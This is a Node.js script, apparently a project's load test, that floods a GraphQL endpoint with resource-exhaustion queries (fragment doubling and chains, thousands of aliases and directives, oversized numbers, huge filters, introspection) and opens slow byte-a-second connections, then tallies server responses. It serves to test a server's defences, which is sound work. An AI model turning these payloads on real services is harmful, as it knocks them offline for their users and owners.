// Sends what hurts, open loop: so many requests a second for so many seconds, whether or not they are answered.
// Usage: node bench/load/attack.mjs URL RATE SECONDS
import http from 'node:http';
import net from 'node:net';

const [address, rateText, secondsText] = process.argv.slice(2);
const rate = Number(rateText), seconds = Number(secondsText);
if (!address || !(rate > 0) || !(seconds > 0)) {
  console.error('Usage: node attack.mjs URL RATE SECONDS');
  process.exit(2);
}
const url = new URL(address);
const agent = new http.Agent({ keepAlive: true, maxSockets: 256 });
const times = (number, text) => Array.from({ length: number }, (_, i) => text(i)).join('');

// each takes a number that no other request has, so that nothing that is kept answers it
const ATTACKS = {
  heavy: n => ({ query: `{ organizations(first: 100, offset: ${n % 7}) { nodes { name members(first: 100) { nodes { title citations(first: 3) { nodes { id } } } } } } } #${n}` }),
  unique: n => ({ query: `query u${n} { people(first: 20, filter: {summary: {contains: "${n}"}}) { totalCount nodes { id name affiliations { nodes { title } } } } }` }),
  scan: n => ({ query: '{ people(filter: {or: [' + times(60, i => `{summary: {contains: "zz${n}x${i}"}}`) + ']}) { totalCount } }' }),
  doubling: n => ({ query: '{ ...f0 }' + times(23, i => ` fragment f${i} on Query { ...f${i + 1} ...f${i + 1} }`) + ` fragment f23 on Query { a${n}: __typename }` }),
  chain: n => ({ query: '{ ...f0 }' + times(400, i => ` fragment f${i} on Query { ...f${i + 1} }`) + ` fragment f400 on Query { a${n}: __typename }` }),
  aliases: n => ({ query: '{ people { nodes {' + times(500, i => ` a${n}x${i}: id`) + ' } } }' }),
  directives: n => ({ query: `{ a${n}: __typename` + ' @include(if: true)'.repeat(1000) + ' }' }),
  merging: n => ({ query: '{ people { nodes {' + ' ... { id }'.repeat(1000) + ` } } } #${n}` }),
  faults: n => ({ query: '{ people { nodes {' + times(1500, i => ` x${n}y${i}`) + ' } } }' }),
  digits: n => ({ query: `{ people(first: ${n}${'9'.repeat(50000)}) { totalCount } }` }),
  introspection: n => ({ query: `{ __schema { types { name description fields(includeDeprecated: true) { name description args { name type { name kind ofType { name kind ofType { name } } } } type { name kind ofType { name kind ofType { name } } } } } } } #${n}` }),
  variables: n => ({ query: 'query($it: PersonFilter) { people(filter: $it) { totalCount } }', variables: { it: { or: Array.from({ length: 1200 }, (_, i) => ({ name: { contains: `${n}_${i}` } })) } } }),
};
const names = [...Object.keys(ATTACKS), 'slow'];
const counts = new Map();
const count = (name, what) => counts.set(`${name}\t${what}`, (counts.get(`${name}\t${what}`) ?? 0) + 1);
let underWay = 0;
const slow = new Set();

function post(name, n) {
  const body = JSON.stringify(ATTACKS[name](n));
  underWay++;
  let told = false;
  const end = what => {
    if (!told) {
      told = true;
      underWay--;
      count(name, what);
    }
  };
  const request = http.request(url, { agent, method: 'POST', timeout: 10000,
    headers: { 'content-type': 'application/json', 'content-length': Buffer.byteLength(body) } }, response => {
    let head = '';
    response.setEncoding('utf8').on('data', part => { if (head.length < 100000) head += part; });
    response.on('end', () => end(`${response.statusCode} ${/"code":"(\w+)"/.exec(head)?.[1] ?? (head.startsWith('{"data"') ? 'answered' : 'other')}`));
    response.on('error', () => end('broken off'));
  });
  request.on('timeout', () => request.destroy(new Error('timeout')));
  request.on('error', error => end(error.message === 'timeout' ? 'no answer in 10 s' : `${error.code ?? 'error'}`));
  request.end(body);
}

// says a byte a second of a head or of a body, and is never done
function crawl() {
  const socket = net.connect(Number(url.port || 80), url.hostname);
  const text = Math.random() < 0.5 ? `POST ${url.pathname} HTTP/1.1\r\nHost: ${url.host}\r\nX-Slow: `
    : `POST ${url.pathname} HTTP/1.1\r\nHost: ${url.host}\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{"query":"`;
  slow.add(socket);
  const timer = setInterval(() => socket.write('x'), 1000);
  let told = false;
  socket.on('connect', () => socket.write(text)).on('data', data => {
    if (!told) count('slow', `${data.toString('latin1').slice(9, 12)} shut out`);
    told = true;
  });
  socket.on('error', () => {}).on('close', () => {
    clearInterval(timer);
    slow.delete(socket);
    if (!told) count('slow', 'closed');
  });
}

const begun = performance.now();
let sent = 0;
const sending = setInterval(() => {
  const passed = (performance.now() - begun) / 1000;
  for (const due = Math.min(passed, seconds) * rate; sent < due; sent++) {
    const name = names[sent % names.length];
    // numbers of another run must not be the same, because the server may have kept what they ask
    if (name === 'slow') crawl(); else post(name, Math.floor(begun) % 1000 * 1000000 + Date.now() % 1000 * 100000 + sent);
  }
  if (passed >= seconds && (underWay === 0 || passed > seconds + 12)) finish();
}, 5);

function finish() {
  clearInterval(sending);
  for (const socket of slow) {
    count('slow', 'still open');
    socket.removeAllListeners('close').destroy();
  }
  console.log(`sent ${sent} in ${seconds} s, ${underWay} never answered`);
  for (const [what, number] of [...counts].sort()) console.log(`${String(number).padStart(8)}  ${what.replace('\t', '  ')}`);
  process.exit(0);
}
